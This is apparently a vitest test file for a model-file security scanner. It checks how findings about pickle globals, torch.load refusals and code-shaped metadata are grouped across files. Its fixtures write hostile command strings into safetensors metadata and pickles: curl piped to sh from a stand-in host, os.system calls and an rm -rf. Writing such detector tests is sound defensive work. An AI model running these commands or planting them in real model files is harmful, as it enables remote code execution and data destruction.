import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runMain } from '../helpers/cli.js';
import { safetensors, zip } from './formats/build.js';

/**
 * Pickles of one project class in four run folders and in run 3's Lightning-style checkpoint, one of another class, two
 * torch checkpoints holding a numpy scalar (fixtures/models-cases/shared-global/generate.py).
 */
const CASE = path.resolve(import.meta.dirname, '../../fixtures/models-cases/shared-global');

interface JsonFinding {
  ruleId: string;
  message: string;
  location: { path: string };
  evidence?: Record<string, unknown>;
  related?: { path: string }[];
}

/** `chainproof scan <dir> --offline --fail-on none` as a user runs it, its JSON report (written beside the folder). */
async function scanJson(dir: string, ...extra: string[]) {
  const out = `${dir}.json`;
  const r = await runMain(['scan', dir, '--offline', '--no-cache', '--fail-on', 'none', '-f', `json=${out}`, ...extra]);
  expect(r.code, r.stderr).toBe(0);
  const json = JSON.parse(readFileSync(out, 'utf8')) as {
    findings: JsonFinding[];
    summary: { byLevel: { warning: number }; suppressed: number };
  };
  rmSync(out);
  return json;
}

describe('one finding per unlisted global across files (inspect/causes.ts)', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'cp-shared-global-'));
    cpSync(CASE, dir, { recursive: true });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const scan = (...extra: string[]) => scanJson(dir, ...extra);
  const cpi002 = (findings: readonly JsonFinding[]) => findings.filter((f) => f.ruleId === 'CPI002');

  it('reports the global five files import once, with the count and every other file related', async () => {
    const { findings, summary } = await scan();
    const shared = cpi002(findings).filter((f) => f.evidence?.['global'] === 'local_trainer.RunConfig');
    expect(shared).toHaveLength(1);
    expect(shared[0]!.location.path).toBe('run-1/config.pkl');
    expect(shared[0]!.evidence).toMatchObject({ count: 5, first: 'run-1/config.pkl' });
    expect(shared[0]!.related!.map((r) => r.path)).toEqual([
      'run-2/config.pkl',
      'run-3/config.pkl',
      'run-3/last.ckpt',
      'run-4/config.pkl',
    ]);
    expect(shared[0]!.message).toMatch(
      /^The same in 5 model files: run-1\/config\.pkl, run-2\/config\.pkl, run-3\/config\.pkl and 2 more\./,
    );
    // A global only one file imports keeps its own finding and message.
    const alone = cpi002(findings).filter((f) => f.evidence?.['global'] === 'local_trainer.Notes');
    expect(alone.map((f) => f.message)).toEqual([expect.stringMatching(/^other\/notes\.pkl: the pickle imports/)]);
    expect(summary.byLevel.warning).toBe(2);
  });

  it('keeps one finding when torch.load refuses the global in some of the files, and says in which', async () => {
    const { findings } = await scan();
    const shared = cpi002(findings).filter((f) => f.evidence?.['global'] === 'local_trainer.RunConfig');
    expect(shared).toHaveLength(1);
    // The first file is a plain pickle: its message must not claim torch's refusal for all five.
    const refusal = /torch\.load refuses (it|this global) by default/g;
    expect(shared[0]!.message.match(refusal)).toHaveLength(1);
    expect(shared[0]!.message).toMatch(
      /In 1 of them, run-3\/last\.ckpt \(last\/data\.pkl\), torch\.load refuses it by default since torch 2\.6/,
    );
    expect(shared[0]!.evidence).toMatchObject({ torchLoadRefusedIn: 1 });
  });

  it("reports torch.load's refusal of the same numpy names in two checkpoints once (CPI119)", async () => {
    const { findings } = await scan();
    const refused = findings.filter((f) => f.ruleId === 'CPI119');
    expect(refused.map((f) => [f.location.path, f.evidence?.['count'], f.related?.map((r) => r.path)])).toEqual([
      ['run-1/trainer_state.pt', 2, ['run-2/trainer_state.pt']],
    ]);
  });

  it('keeps a file a suppression names out of the group, so the suppression hides that file and only it', async () => {
    const policy = path.join(dir, '..', `${path.basename(dir)}-policy.yml`);
    writeFileSync(
      policy,
      'version: 1\nsuppressions:\n  - rule: CPI002\n    path: run-1/config.pkl\n    reason: reviewed\n    expires: 2099-01-01\n',
    );
    try {
      const { findings, summary } = await scan('--policy', policy);
      const shared = cpi002(findings).filter((f) => f.evidence?.['global'] === 'local_trainer.RunConfig');
      expect(shared.map((f) => [f.location.path, f.evidence?.['count']])).toEqual([['run-2/config.pkl', 4]]);
      expect(summary.suppressed).toBe(1);
    } finally {
      rmSync(policy);
    }
  });

  it('marks every file of the group in the text list of model files', async () => {
    const r = await runMain(['scan', dir, '--offline', '--no-cache', '--fail-on', 'none']);
    for (const n of [1, 2, 3, 4]) expect(r.stdout).toContain(`! run-${n}/config.pkl`);
  });
});

describe('one finding per code-shaped metadata text across files (CPI133)', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'cp-lora-epochs-'));
    // A kohya trainer writes the same notes into every epoch's LoRA; one other file says something else.
    const lora = (comment: string) =>
      safetensors(
        {
          __metadata__: { ss_network_module: 'networks.lora', ss_training_comment: comment },
          'lora_unet_down.lora_down.weight': { dtype: 'U8', shape: [4], data_offsets: [0, 4] },
        },
        4,
      );
    for (let n = 1; n <= 10; n++)
      writeFileSync(
        path.join(dir, `char-${String(n).padStart(6, '0')}.safetensors`),
        lora('curl -s https://x.invalid/i | sh'),
      );
    writeFileSync(path.join(dir, 'other.safetensors'), lora("import os; os.system('id')"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reports the text ten epoch files share once, with the count and the other files related', async () => {
    const { findings } = await scanJson(dir);
    const cpi133 = findings.filter((f) => f.ruleId === 'CPI133');
    expect(cpi133.map((f) => f.location.path)).toEqual(['char-000001.safetensors', 'other.safetensors']);
    expect(cpi133[0]!.evidence).toMatchObject({ count: 10, first: 'char-000001.safetensors' });
    expect(cpi133[0]!.message).toMatch(/^The same in 10 model files: char-000001\.safetensors, /);
    expect(cpi133[0]!.related!.map((f) => f.path)).toHaveLength(9);
    expect(cpi133[1]!.evidence?.['count']).toBeUndefined();
  });
});

describe('code-shaped text in pickles across files (CPI133)', () => {
  let dir: string;
  /** A protocol-2 pickle of one str (BINUNICODE, STOP): nothing is imported or called. */
  const pickleOf = (text: string) => {
    const bytes = Buffer.from(text, 'utf8');
    const length = Buffer.alloc(4);
    length.writeUInt32LE(bytes.length);
    return Buffer.concat([Buffer.from([0x80, 0x02, 0x58]), length, bytes, Buffer.from('.')]);
  };
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'cp-pickle-code-'));
    writeFileSync(path.join(dir, 'a.pkl'), pickleOf("import os; os.system('curl -s https://x.invalid/a | sh')"));
    writeFileSync(path.join(dir, 'b.pkl'), pickleOf("import os; os.system('curl -s https://x.invalid/a | sh')"));
    writeFileSync(path.join(dir, 'c.pkl'), pickleOf("import subprocess; subprocess.run(['rm', '-rf', '/tmp/x'])"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('groups the pickles holding the same text, and only those', async () => {
    const { findings } = await scanJson(dir);
    const cpi133 = findings.filter((f) => f.ruleId === 'CPI133');
    expect(cpi133.map((f) => f.location.path)).toEqual(['a.pkl', 'c.pkl']);
    expect(cpi133[0]!.evidence).toMatchObject({ count: 2, first: 'a.pkl' });
    expect(cpi133[1]!.evidence?.['count']).toBeUndefined();
  });
});

describe('torch.load refusing whole-module checkpoints across files (CPI119)', () => {
  let dir: string;
  /** `torch.save(module)`'s shape: data.pkl (protocol 2) builds one nn class, GLOBAL then NEWOBJ. */
  const moduleCheckpoint = (root: string, module: string, cls: string) => {
    const pickle = Buffer.concat([
      Buffer.from([0x80, 0x02]),
      Buffer.from(`c${module}\n${cls}\nq\x00)\x81q\x01.`, 'latin1'),
    ]);
    return zip([
      { name: `${root}/data.pkl`, data: pickle },
      { name: `${root}/version`, data: '3\n' },
      { name: `${root}/byteorder`, data: 'little' },
    ]);
  };
  const classes = [
    ['torch.nn.modules.linear', 'Linear'],
    ['torch.nn.modules.conv', 'Conv2d'],
    ['torch.nn.modules.activation', 'ReLU'],
    ['torch.nn.modules.container', 'Sequential'],
  ] as const;
  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'cp-torch-modules-'));
    classes.forEach(([module, cls], i) =>
      writeFileSync(path.join(dir, `run${i}.pt`), moduleCheckpoint(`run${i}`, module, cls)),
    );
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('is one note naming every class, though each file saves a different one', async () => {
    const { findings } = await scanJson(dir);
    const cpi119 = findings.filter((f) => f.ruleId === 'CPI119');
    expect(cpi119).toHaveLength(1);
    expect(cpi119[0]!.evidence).toMatchObject({ count: 4, first: 'run0.pt (run0/data.pkl)', globalCount: 4 });
    expect(cpi119[0]!.related!.map((r) => r.path)).toEqual(['run1.pt', 'run2.pt', 'run3.pt']);
    for (const [module, cls] of classes) expect(cpi119[0]!.message).toContain(`\`${module}.${cls}\``);
  });
});
